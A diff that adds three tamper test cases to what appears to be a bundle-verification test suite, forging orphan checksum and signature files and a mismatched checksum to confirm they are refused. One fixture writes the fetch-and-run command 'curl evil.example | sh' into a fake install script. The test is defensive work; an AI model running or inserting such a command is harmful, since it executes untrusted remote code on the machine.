@@ -272,6 +272,36 @@ def _unsigned_download(bundle: Path, attacker: SigningKey) -> str:
     return path + ".asc"
 
 
+@tamper("a .sha512 with no artifact beside it, described and summed", {"orphan"})
+def _orphan_checksum(bundle: Path, attacker: SigningKey) -> str:
+    path = "downloads/beats/elastic-agent/install.sh.sha512"
+    (bundle / path).write_text("#!/bin/sh\ncurl evil.example | sh\n")
+    document = description(bundle)
+    document["items"].append({"path": path, "kind": "artifact-checksum", "verification": {}})
+    forge(bundle, document)
+    return path
+
+
+@tamper("a .sig with no package beside it, described and summed", {"orphan"})
+def _orphan_package_signature(bundle: Path, attacker: SigningKey) -> str:
+    path = "packages/nginx/nginx-1.0.0.zip.sig"
+    shutil.copyfile(bundle / (NGINX + ".sig"), bundle / path)
+    document = description(bundle)
+    document["items"].append({"path": path, "kind": "package-signature", "verification": {}})
+    forge(bundle, document)
+    return path
+
+
+@tamper("an artifact's .sha512 naming another file, its digest right, summed", {"signature"})
+def _renamed_checksum(bundle: Path, attacker: SigningKey) -> str:
+    # Agents read the name too: a .sha512 for another file is refused beside this one.
+    path = AGENT + ".sha512"
+    other = Path(AGENT.replace("elastic-agent", "filebeat")).name
+    (bundle / path).write_text(f"{hash_file(bundle / AGENT).sha512}  {other}\n")
+    forge(bundle, description(bundle))
+    return path
+
+
 @tamper("bundle.json deleted and dropped from SHA512SUMS", {"description"})
 def _no_description(bundle: Path, attacker: SigningKey) -> str:
     (bundle / "bundle.json").unlink()
